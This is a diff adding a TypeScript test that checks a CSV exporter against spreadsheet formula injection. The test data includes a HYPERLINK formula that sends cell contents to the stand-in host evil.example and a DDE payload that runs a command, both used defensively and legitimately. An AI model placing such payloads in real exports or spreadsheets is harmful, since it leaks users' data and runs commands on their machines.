@@ -1,6 +1,7 @@
 // JobManager + SQLite store on a real database file in a temp dir, with the real engine and a
 // scripted backend (exact semantics: which generator calls happen, what resumes where).
-import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import Database from 'better-sqlite3';
@@ -341,6 +342,34 @@ describe('JobManager', () => {
     expect(json.runExamples).toEqual(manager.runExamples(job.id));
     expect(json.job.id).toBe(job.id);
     await expect(manager.export(job.id, 'xml' as 'csv', csvPath)).rejects.toThrow(/unknown export format/);
+  });
+});
+
+describe('CSV export against a malicious data set', () => {
+  it('no exported cell starts a spreadsheet formula, and reading the export back restores the cells', async () => {
+    const { manager } = setup();
+    const evil = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+      '+1+cmd|\' /C calc\'!A0',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      'a good, plain film',
+    ];
+    const path = join(dir, 'evil.csv');
+    writeFileSync(path, 'text,label\n' + evil.map((t, i) => `"${t.replace(/"/g, '""')}",${i % 2 === 0 ? '=1' : '-0'}`).join('\n') + '\n');
+    const job = await manager.create(spec({ dataset: { path, mapping: { textColumn: 'text', labelColumn: 'label', labelMap: { '=1': 'positive', '-0': 'negative' } } } }));
+    await manager.start(job.id);
+    await manager.wait(job.id);
+    const out = join(dir, `evil-${job.id}.csv`);
+    await manager.export(job.id, 'csv', out);
+    // The file as a spreadsheet sees it: every cell, unquoted.
+    const cells = (parseCsv(readFileSync(out, 'utf8'), { relax_column_count: false }) as string[][]).flat();
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(cells).toContain(`'${evil[0]}`);
+    const back = await readCsvExport(out);
+    expect(back.map((b) => b.input)).toEqual(evil);
+    expect(back.map((b) => b.goldRaw)).toEqual(evil.map((_, i) => (i % 2 === 0 ? '=1' : '-0')));
   });
 });
 
